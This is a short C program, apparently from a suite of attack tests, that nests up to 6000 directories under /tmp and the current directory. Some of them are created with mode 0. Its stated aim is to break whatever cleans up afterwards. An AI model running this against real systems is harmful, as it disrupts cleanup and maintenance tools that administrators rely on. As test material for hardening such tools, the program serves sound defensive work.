/* A directory tree so deep that whoever cleans up falls over it. */
#include "attack.h"

int main(void)
{
    for (int i = 0; i < 3000; i++)
        if (mkdir("/tmp/d", 0700) == 0 || mkdir("d", 0700) == 0)
            if (chdir("/tmp/d") < 0 && chdir("d") < 0)
                break;
    for (int i = 0; i < 3000; i++) {
        mkdir("d", 0);
        chmod("d", 0700);
        if (chdir("d") < 0)
            break;
    }
    return 0;
}
